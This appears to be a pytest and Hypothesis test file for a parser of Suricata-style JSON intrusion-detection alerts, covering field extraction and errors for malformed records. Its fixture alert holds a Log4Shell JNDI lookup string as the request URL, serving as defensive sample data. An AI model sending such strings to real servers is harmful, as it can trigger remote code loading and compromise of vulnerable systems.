from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.sources.event import EventError, parse

RECORD: dict[str, Any] = {
    "timestamp": "2023-10-09T11:23:00.250000+0000",
    "event_type": "alert",
    "src_ip": "203.0.113.9",
    "src_port": 40000,
    "dest_ip": "192.0.2.1",
    "dest_port": 80,
    "proto": "TCP",
    "alert": {"signature": "ET EXPLOIT Apache Log4j", "category": "Attempted Administrator Privilege Gain"},
    "http": {"hostname": "shop.example", "url": "/?q=${jndi:ldap://x}", "status": 200},
    "payload_printable": "GET /?q=1 HTTP/1.1\r\n\x00",
}


def record(**changes: Any) -> str:
    return json.dumps(RECORD | changes)


def test_an_alert_record_is_taken_apart() -> None:
    event = parse(record())
    assert (event.src_ip, event.src_port, event.dst_ip, event.dst_port) == ("203.0.113.9", 40000, "192.0.2.1", 80)
    assert (event.at, event.name, event.proto) == (1696850580.25, "ET EXPLOIT Apache Log4j", "tcp")
    assert event.origin == "eve"


def test_the_content_tells_category_protocol_and_payload() -> None:
    content = parse(record()).content
    assert content.startswith("Attempted Administrator Privilege Gain shop.example /?q=${jndi:ldap://x} 200 GET /")
    assert content.isprintable()


def test_icmp_has_no_ports() -> None:
    body = {key: value for key, value in RECORD.items() if not key.endswith("_port")} | {"proto": "ICMP"}
    event = parse(json.dumps(body))
    assert (event.src_port, event.dst_port, event.proto) == (0, 0, "")


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ("{", "record"),
        ('{"a":' * 5000, "line"),
        ('{"a":' * 3000, "record"),
        (record(event_type="flow", alert=None), "event_type"),
        (record(alert=[]), "event_type"),
        (record(timestamp=None), "time"),
        (record(timestamp="yesterday"), "time"),
        (record(timestamp="2023-99-09T11:23:00Z"), "time"),
        (record(src_ip="host"), "source address"),
        (record(src_ip=None), "source address"),
        (record(dest_ip="::1"), "destination address"),
        (record(src_port=70000), "source port"),
        (record(dest_port=True), "destination port"),
        (record(dest_port=1.5), "destination port"),
        (record().replace("40000", "9" * 4000), "source port"),
        (record().replace("40000", "9" * 5000), "record"),
        (record(alert={"signature": " "}), "name"),
    ],
)
def test_a_bad_record_names_the_field(text: str, field: str) -> None:
    with pytest.raises(EventError) as error:
        parse(text)
    assert error.value.field == field


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3),
    max_leaves=6,
)


@given(st.dictionaries(st.sampled_from(sorted(RECORD)), _JSON, max_size=5))
def test_any_value_in_any_field_is_an_event_or_an_event_error(changes: dict[str, Any]) -> None:
    try:
        event = parse(record(**changes))
    except EventError as error:
        assert error.field
    else:
        assert event.name.isprintable() and event.content.isprintable()
